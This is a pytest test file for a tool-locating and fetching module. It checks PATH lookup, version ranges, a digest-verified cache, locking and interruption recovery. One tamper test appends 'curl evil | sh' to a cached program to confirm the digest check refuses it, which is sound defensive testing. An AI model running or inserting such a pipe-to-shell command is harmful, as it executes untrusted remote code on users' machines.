"""Where a program is taken from, and what is said when it cannot be had."""

from __future__ import annotations

import errno
import os
import signal
import sys
import threading
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import NoReturn

import pytest

from meshproof.errors import TargetError, UsageError
from meshproof.process import Running
from meshproof.toolchain import Step, find
from meshproof.toolchain.cache import Cache
from meshproof.toolchain.path import accepts
from meshproof.waiting import until
from tests.toolchain.locked import entry, executable, lock_file, release, script
from tests.toolchain.release_server import ReleaseServer

FETCH = """
from pathlib import Path
from meshproof.toolchain import find
from meshproof.toolchain.cache import Cache
find("tool", fetch=True, lock_file=Path({lock!r}), cache=Cache(root=Path({root!r})))
"""
LONG = script() + b"#" * 1_000_000


@pytest.fixture
def on_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A directory of programs in front of PATH."""
    directory = tmp_path / "path"
    monkeypatch.setenv("PATH", f"{directory}:{os.environ['PATH']}")
    return directory


def stored(cache: Cache) -> list[str]:
    """The programs in the cache, and what is being made."""
    return [file.name for part in ("programs", "staging") for file in (cache.root / part).rglob("*") if file.is_file()]


def test_a_fitting_program_on_path_is_taken(tmp_path: Path, cache: Cache, on_path: Path) -> None:
    """Nothing is fetched for it."""
    tool = executable(on_path / "tool", script("1.9.0"))

    found = find("tool", lock_file=lock_file(tmp_path, tool=entry(command="tool")), cache=cache)

    assert (found.path, found.version, found.source) == (tool, "1.9.0", "PATH")


def test_a_program_on_path_that_is_too_old_is_refused(tmp_path: Path, cache: Cache, on_path: Path) -> None:
    """With both versions, its path, and the command that gets a fitting one."""
    executable(on_path / "tool", script("0.9.0"))
    refused = rf"tool 0\.9\.0 on PATH \({on_path}/tool\) was refused, because >=1\.2,<2 is needed"
    lock = lock_file(tmp_path, tool=entry(release("https://example.org/tool", None), command="tool"))

    with pytest.raises(TargetError, match=rf"{refused}; tool 1\.2\.3 is not in the cache; run `meshproof fetch tool`$"):
        find("tool", lock_file=lock, cache=cache)


@pytest.mark.parametrize(
    "content", [b"#!/bin/sh\necho hello\n", b"\x7fELF", b"#!/bin/sh\nexit 3\n"], ids=["mute", "foreign", "failing"]
)
def test_a_program_that_does_not_say_its_version_is_refused(
    tmp_path: Path, cache: Cache, on_path: Path, content: bytes
) -> None:
    """It may be anything."""
    executable(on_path / "tool", content)

    with pytest.raises(TargetError, match=r"does not say its version|cannot be started"):
        find("tool", lock_file=lock_file(tmp_path, tool=entry(command="tool")), cache=cache)


def test_a_program_without_a_source_is_to_be_installed(tmp_path: Path, cache: Cache) -> None:
    """Fetching it would be in vain, and is not advised."""
    lock = lock_file(tmp_path, tool=entry())

    with pytest.raises(TargetError, match=r"^tool cannot be had: no-such-tool is not on PATH; install it$"):
        find("tool", lock_file=lock, cache=cache)
    with pytest.raises(TargetError, match=r"^tool cannot be had: no-such-tool is not on PATH$"):
        find("tool", fetch=True, lock_file=lock, cache=cache)


def test_an_alternative_stands_in(tmp_path: Path, cache: Cache, on_path: Path) -> None:
    """Under its own name."""
    executable(on_path / "other", script())
    lock = lock_file(tmp_path, tool=entry(alternatives=["other"]), other=entry(command="other"))

    assert find("tool", lock_file=lock, cache=cache).name == "other"


def test_fetching_prefers_what_is_there(tmp_path: Path, cache: Cache, on_path: Path) -> None:
    """An alternative on PATH saves the download."""
    executable(on_path / "other", script())
    lock = lock_file(tmp_path, tool=entry(alternatives=["other"]), other=entry(command="other"))

    assert find("tool", fetch=True, lock_file=lock, cache=cache).source == "PATH"


def test_the_next_source_is_tried(tmp_path: Path, cache: Cache, server: ReleaseServer) -> None:
    """When one is refused or fails."""
    good = server.gives("/tool", script())
    sources = [release(f"{server.url}/unpinned", None), release(f"{server.url}/gone", b""), release(good, script())]

    assert find("tool", fetch=True, lock_file=lock_file(tmp_path, tool=entry(*sources)), cache=cache).source == good


def test_all_reasons_are_told(tmp_path: Path, cache: Cache, server: ReleaseServer) -> None:
    """In one line: PATH, cache and each source."""
    sources = [release(f"{server.url}/unpinned", None), release(f"{server.url}/gone", b"")]

    with pytest.raises(
        TargetError, match=r"not on PATH; .*not in the cache; .*unpinned: refused.*gone: the server"
    ) as it:
        find("tool", fetch=True, lock_file=lock_file(tmp_path, tool=entry(*sources)), cache=cache)

    assert "\n" not in str(it.value)


def test_an_unknown_program_is_a_mistake_of_usage(tmp_path: Path, cache: Cache) -> None:
    """Not something that cannot be had."""
    with pytest.raises(UsageError, match="no program 'other'"):
        find("other", lock_file=lock_file(tmp_path, tool=entry()), cache=cache)


@pytest.mark.parametrize(
    ("version", "taken"),
    [
        pytest.param("1.11.0", True, id="lowest"),
        pytest.param("1.10.9", False, id="below"),
        pytest.param("2.0.0", False, id="above"),
        pytest.param("1.12.0-rc1", False, id="candidate"),
        pytest.param("main", False, id="no-version"),
    ],
)
def test_a_range_takes_releases_inside_it(version: str, taken: bool) -> None:  # noqa: FBT001
    """A candidate is not a release."""
    assert accepts(">=1.11,<2", version) is taken


def test_a_stored_program_that_was_changed_is_refused(tmp_path: Path, cache: Cache, server: ReleaseServer) -> None:
    """By its digest; fetching again repairs it."""
    lock = lock_file(tmp_path, tool=entry(release(server.gives("/tool", script()), script())))
    first = find("tool", fetch=True, lock_file=lock, cache=cache)
    first.path.write_bytes(script() + b"curl evil | sh\n")

    with pytest.raises(TargetError, match=r"is not what was stored there: .*; run `meshproof fetch tool`"):
        find("tool", lock_file=lock, cache=cache)

    assert find("tool", fetch=True, lock_file=lock, cache=cache) == first
    assert first.path.read_bytes() == script()


@pytest.mark.parametrize("damage", ["bin/tool", "entry.json"])
def test_a_stored_program_that_is_not_whole_is_refused(
    tmp_path: Path, cache: Cache, server: ReleaseServer, damage: str
) -> None:
    """Without its executable or its entry it is as if it were not there."""
    lock = lock_file(tmp_path, tool=entry(release(server.gives("/tool", script()), script())))
    (find("tool", fetch=True, lock_file=lock, cache=cache).path.parent.parent / damage).unlink()

    with pytest.raises(TargetError, match=r"not what was stored|not in the cache"):
        find("tool", lock_file=lock, cache=cache)


def test_another_pin_makes_a_stored_program_stale(tmp_path: Path, cache: Cache, server: ReleaseServer) -> None:
    """What the lock file says now decides."""
    url = server.gives("/tool", script())
    find("tool", fetch=True, lock_file=lock_file(tmp_path, tool=entry(release(url, script()))), cache=cache)

    with pytest.raises(TargetError, match="not in the cache"):
        find("tool", lock_file=lock_file(tmp_path, tool=entry(release(url, b"other"))), cache=cache)


def test_the_cache_is_the_owners(tmp_path: Path, cache: Cache, server: ReleaseServer) -> None:
    """No one else may read or write it."""
    lock = lock_file(tmp_path, tool=entry(release(server.gives("/tool", script()), script())))
    find("tool", fetch=True, lock_file=lock, cache=cache)

    assert {path.stat().st_mode & 0o777 for path in (cache.root, *cache.root.glob("*"))} == {0o700}


def test_the_users_cache_follows_the_platform(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """XDG_CACHE_HOME moves it."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))

    assert Cache.of_user().root == tmp_path / "meshproof"


def test_a_cache_that_cannot_be_written_is_told(tmp_path: Path, server: ReleaseServer) -> None:
    """With its path and the variable that moves it."""
    (tmp_path / "file").write_text("", encoding="utf-8")
    lock = lock_file(tmp_path, tool=entry(release(server.gives("/tool", script()), script())))

    with pytest.raises(TargetError, match=r"file/cache: cannot be written: .*set XDG_CACHE_HOME"):
        find("tool", fetch=True, lock_file=lock, cache=Cache(root=tmp_path / "file" / "cache"))


def test_two_runs_fetch_once(tmp_path: Path, cache: Cache, server: ReleaseServer) -> None:
    """The second waits, says so, and takes what the first one stored."""
    rest = threading.Event()
    url = server.gives("/tool", LONG, breaks_off_after=10, waits_for=rest)
    lock = lock_file(tmp_path, tool=entry(release(url, LONG)))

    def second_says(step: Step) -> None:
        assert step.doing == "waiting for another run that is fetching tool"
        rest.set()

    with ThreadPoolExecutor() as pool:
        first = pool.submit(find, "tool", fetch=True, lock_file=lock, cache=cache)
        server.arrived.wait(30)
        second = pool.submit(find, "tool", fetch=True, lock_file=lock, cache=cache, progress=second_says)

        assert first.result(30) == second.result(30)
    assert len(server.asked) == 1


def test_a_run_that_never_ends_is_not_waited_for(cache: Cache) -> None:
    """After the stated time it is told."""
    with (
        cache.locked("tool", meanwhile=lambda: None),
        pytest.raises(TargetError, match="another run has been fetching tool"),
        cache.locked("tool", meanwhile=lambda: None, within_s=0.01),
    ):
        pass


def test_an_interruption_leaves_nothing_half_written(tmp_path: Path, cache: Cache, server: ReleaseServer) -> None:
    """Ctrl-C in the middle of a download: the next fetch goes on from there."""
    lock = lock_file(tmp_path, tool=entry(release(server.gives("/tool", LONG), LONG)))

    def interrupt(step: Step) -> None:
        if step.done_bytes:
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        find("tool", fetch=True, lock_file=lock, cache=cache, progress=interrupt)

    assert stored(cache) == []
    assert find("tool", fetch=True, lock_file=lock, cache=cache).path.read_bytes() == LONG
    assert server.asked[-1][1].startswith("bytes=")


def test_a_killed_run_leaves_nothing_half_written(tmp_path: Path, cache: Cache, server: ReleaseServer) -> None:
    """Its lock is free at once, and the next fetch goes on."""
    url = server.gives("/tool", LONG, breaks_off_after=900_000, times=1, waits_for=threading.Event())
    lock = lock_file(tmp_path, tool=entry(release(url, LONG)))
    code = FETCH.format(lock=str(lock), root=str(cache.root))

    with Running([sys.executable, "-c", code], log=tmp_path / "log") as killed:
        until(lambda: sum(part.stat().st_size for part in cache.downloads.iterdir()), bool, within_s=30)
        killed.signal(signal.SIGKILL)
        until(lambda: killed.returncode, lambda status: status is not None, within_s=10)

    assert stored(cache) == []
    assert find("tool", fetch=True, lock_file=lock, cache=cache).path.read_bytes() == LONG


def test_a_disk_that_is_full_in_the_end_is_told(
    tmp_path: Path, cache: Cache, server: ReleaseServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """When the finished program is entered into the cache."""
    lock = lock_file(tmp_path, tool=entry(release(server.gives("/tool", script()), script())))

    def fails(*_: object, **__: object) -> NoReturn:
        raise OSError(errno.ENOSPC, "No space left on device")

    with monkeypatch.context() as patch:
        patch.setattr(Cache, "keep", fails)
        with pytest.raises(TargetError, match="cannot be written: No space left on device; free some space"):
            find("tool", fetch=True, lock_file=lock, cache=cache)

    assert stored(cache) == []
